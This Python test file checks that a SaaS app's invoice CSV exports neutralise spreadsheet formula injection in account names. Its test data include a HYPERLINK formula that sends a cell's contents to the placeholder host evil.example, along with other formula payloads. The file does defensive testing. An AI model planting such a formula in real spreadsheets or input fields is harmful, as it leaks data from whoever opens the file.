"""Formula injection: an account name that a spreadsheet would evaluate (`=HYPERLINK(...)`)
comes out of every CSV as text, prefixed with `'` (OWASP's rule), from the admin API, the
operators' dashboard and `saas invoices` alike."""

import csv
import io
import uuid

from saas.kit import months
from saas.kit.csv_export import safe_cell, to_csv
from tests.support.dashboard import signed_in

DANGEROUS = ['=HYPERLINK("https://evil.example/?x="&A1,"Invoice")', "+1+2", "-3+4", "@SUM(1)"]


def test_cells_that_start_a_formula_are_defused() -> None:
    for value in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx"):
        assert safe_cell(value) == "'" + value
    # Numbers stay numbers; a sign inside a cell is harmless. A leading space is left too, as
    # OWASP's rule does: spreadsheets read " =1" as text.
    for kept in ("acme", "a=b", " =1", "", -5, 3.5, None):
        assert safe_cell(kept) == kept
    text = to_csv(["name", "count"], [{"name": "=1+1", "count": -2}])
    assert list(csv.reader(io.StringIO(text))) == [["name", "count"], ["'=1+1", "-2"]]


def test_every_invoice_csv_defuses_account_names(client, app_client, make_customer, saas) -> None:
    operator = make_customer(scopes=("admin",))
    h, plan = operator.headers, operator.plan_name
    tag = uuid.uuid4().hex[:6]
    names = {f"{name}{tag}": f"'{name}{tag}" for name in DANGEROUS}
    names[f"acme -{tag}"] = f"acme -{tag}"  # an ordinary name is left alone
    for name in names:
        made = client.post(
            "/admin/accounts",
            headers=h,
            json={"name": name, "email": f"{uuid.uuid4().hex[:8]}@example.com", "plan": plan},
        )
        assert made.status_code == 201, made.text

    month = months.current()
    api = client.get(f"/admin/invoices?month={month}&format=csv", headers=h)
    assert api.status_code == 200, api.text
    page = signed_in(app_client, operator.key).get(f"/dashboard/admin/invoices.csv?month={month}")
    assert page.status_code == 200
    cli = saas("invoices", "--month", month, "--format", "csv")
    for source, text in {"api": api.text, "dashboard": page.text, "cli": cli.stdout}.items():
        rows = list(csv.DictReader(io.StringIO(text)))
        written = {row["account"] for row in rows}
        for name, expected in names.items():
            assert expected in written, (source, name)
            assert name not in written or name == expected, (source, name)
        assert all(row["total_cents"].isdecimal() for row in rows), source
